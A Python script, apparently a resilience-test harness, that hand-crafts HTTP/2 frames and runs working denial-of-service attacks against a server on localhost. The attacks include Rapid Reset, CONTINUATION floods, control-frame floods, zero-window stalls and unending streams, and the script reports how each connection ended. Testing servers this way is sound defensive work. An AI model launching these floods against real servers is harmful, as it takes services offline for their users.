"""Abuse of HTTP/2 with frames made by hand (RFC 9113, RFC 7541), over a plain socket with prior knowledge.

    raw_h2.py PORT ATTACK SECONDS

Runs one attack again and again for so many seconds and prints JSON: connections made, requests opened, bytes sent, and how and after how
long each connection ended."""

import json
import select
import socket
import struct
import sys
import threading
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
INITIAL_WINDOW_SIZE = 4
REASONS = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED",
           "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM"]


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value):
    """A string literal, not Huffman-coded (RFC 7541 §5.2)."""
    value = value.encode()
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, out = len(value) - 127, [127]
    while rest >= 128:
        out.append(rest % 128 + 128)
        rest //= 128
    return bytes(out + [rest]) + value


def block(path, method="GET"):
    """A header block of literals that are never indexed (RFC 7541 §6.2.2)."""
    fields = {":method": method, ":scheme": "http", ":authority": "attacked.example", ":path": path}
    return b"".join(b"\0" + text(name) + text(value) for name, value in fields.items())


def request(stream, path, flags=END_HEADERS | END_STREAM, method="GET"):
    return frame(HEADERS, flags, stream, block(path, method))


# Seconds between two connections of an attacker.
PAUSE = 0.25


class Ended(Exception):
    """The other side has ended the connection."""


class Connection:
    """Sends what it is given, reads all that comes so that nothing stands in the way, and remembers how it ended."""

    def __init__(self, port, settings=b""):
        self.socket = socket.create_connection(("127.0.0.1", port), 10)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.begun, self.how, self.sent, self.refused, self.answered, self.unread = time.monotonic(), None, 0, 0, 0, b""
        self.socket.setblocking(False)
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, ACK, 0))

    def send(self, data, timeout=10.0):
        """Sends all of it, reading meanwhile; raises Ended."""
        view, until = memoryview(data), time.monotonic() + timeout
        while view:
            if time.monotonic() > until:
                raise Ended("stalled: it takes no more")
            readable, writable, _ = select.select([self.socket], [self.socket], [], 0.5)
            if readable:
                self.read()
            if writable:
                try:
                    taken = self.socket.send(view[:1 << 18])
                except BlockingIOError:
                    continue
                except OSError as error:
                    self.read_rest()
                    raise Ended(self.how or f"{type(error).__name__}") from None
                self.sent += taken
                view = view[taken:]

    def read_rest(self):
        try:
            while True:
                self.read()
        except (Ended, BlockingIOError):
            pass

    def read(self):
        try:
            data = self.socket.recv(1 << 18)
        except BlockingIOError:
            raise
        except OSError as error:
            raise Ended(self.how or type(error).__name__) from None
        if not data:
            raise Ended(self.how or "closed")
        self.unread += data
        at = 0
        while len(self.unread) - at >= 9:
            length = int.from_bytes(self.unread[at:at + 3], "big")
            if len(self.unread) - at < 9 + length:
                break
            self.came(self.unread[at + 3], self.unread[at + 9:at + 9 + length])
            at += 9 + length
        self.unread = self.unread[at:]

    def came(self, kind, payload):
        if kind == GOAWAY:
            code = int.from_bytes(payload[4:8], "big")
            self.how = "GOAWAY " + (REASONS[code] if code < len(REASONS) else str(code))
        elif kind == RST_STREAM:
            self.refused += 1
        elif kind == HEADERS:
            self.answered += 1

    def wait(self, seconds):
        """Reads for so long; raises Ended."""
        until = time.monotonic() + seconds
        while (left := until - time.monotonic()) > 0:
            if select.select([self.socket], [], [], left)[0]:
                self.read()


class Attack:
    """What one kind of abuse does on one connection: `run` sends until the connection ends or it has done what it does."""

    def __init__(self, port, seconds):
        self.port, self.seconds, self.number = port, seconds, 0
        self.results, self.lock = [], threading.Lock()

    def once(self, run, settings=b"", patience=0.0):
        """One connection, and `patience` seconds in which it may still be ended afterwards."""
        with self.lock:
            self.number += 1
            number = self.number
        how, connection, opened = "still open", None, 0
        try:
            connection = Connection(self.port, settings)
            for data, requests in run(number, connection):
                opened += requests
                connection.send(data)
            connection.wait(patience)
        except Ended as end:
            how = str(end)
        except OSError as error:
            how = type(error).__name__
        if connection:
            connection.socket.close()
            took = time.monotonic() - connection.begun
            with self.lock:
                self.results.append({"how": how, "seconds": took, "opened": opened, "sent": connection.sent,
                                     "refused": connection.refused, "answered": connection.answered})

    def over_and_over(self, run, settings=b"", patience=1.0, at_once=1):
        """Again and again, with pauses: how many connections one may make in a second is another question."""
        until = time.monotonic() + self.seconds

        def repeat():
            while time.monotonic() < until:
                self.once(run, settings, patience)
                time.sleep(PAUSE)

        threads = [threading.Thread(target=repeat) for _ in range(at_once)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()


def resets(times):
    def of(number, _):
        cancel = struct.pack(">I", 8)
        for n in range(times):
            stream = 2 * n + 1
            yield request(stream, f"/late/{number}/{n}") + frame(RST_STREAM, 0, stream, cancel), 1
    return of


def in_one(run):
    def of(number, connection):
        parts = list(run(number, connection))
        yield b"".join(data for data, _ in parts), sum(requests for _, requests in parts)
    return of


def flood(one, times, batch=200, before=b"", requests=0):
    """`times` frames, so many in one write."""
    def of(*_):
        if before:
            yield before, requests
        for _ in range(times // batch):
            yield one * batch, 0
    return of


def continuation(piece, pause, times):
    """A head that never ends."""
    def of(_, connection):
        yield frame(HEADERS, END_STREAM, 1, block("/late/continued")), 1
        for _ in range(times):
            yield frame(CONTINUATION, 0, 1, piece), 0
            if pause:
                connection.wait(pause)
    return of


def zero_window(*_):
    """A hundred streams of a large answer, of which nothing may be sent."""
    yield b"".join(request(2 * n + 1, "/large") for n in range(100)), 100


def without_end(*_):
    """Ten thousand requests whose bodies never end."""
    for n in range(10_000):
        yield request(2 * n + 1, "/without-end", END_HEADERS, "PUT"), 1


def attack(name, port, seconds):
    a = Attack(port, seconds)
    no_window = struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)
    field = b"\0" + text("x") + text("y" * 10)
    kinds = {
        "resets-in-one-write": lambda: a.over_and_over(in_one(resets(5000))),
        "resets-one-per-write": lambda: a.over_and_over(resets(5000)),
        "resets-10-connections": lambda: a.over_and_over(resets(500), at_once=10),
        "continuation-flood": lambda: a.over_and_over(continuation(field, 0, 100_000)),
        "continuation-trickle": lambda: a.once(continuation(b"\0", 1, 40)),
        "settings-flood": lambda: a.over_and_over(flood(frame(SETTINGS, 0, 0), 100_000)),
        "ping-flood": lambda: a.over_and_over(flood(frame(PING, 0, 0, b"01234567"), 100_000)),
        "empty-data-flood": lambda: a.over_and_over(
            flood(frame(DATA, 0, 1), 100_000, before=request(1, "/data", END_HEADERS, "PUT"), requests=1)),
        "priority-flood": lambda: a.over_and_over(flood(frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1)), 100_000)),
        "window-update-flood": lambda: a.over_and_over(
            flood(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)), 100_000)),
        "zero-window": lambda: a.over_and_over(zero_window, no_window, patience=20, at_once=20),
        "streams-without-end": lambda: a.over_and_over(without_end),
    }
    if name not in kinds:
        raise SystemExit(f"one of {', '.join(kinds)}")
    kinds[name]()
    return a.results


if __name__ == "__main__":
    print(json.dumps(attack(sys.argv[2], int(sys.argv[1]), float(sys.argv[3]))))
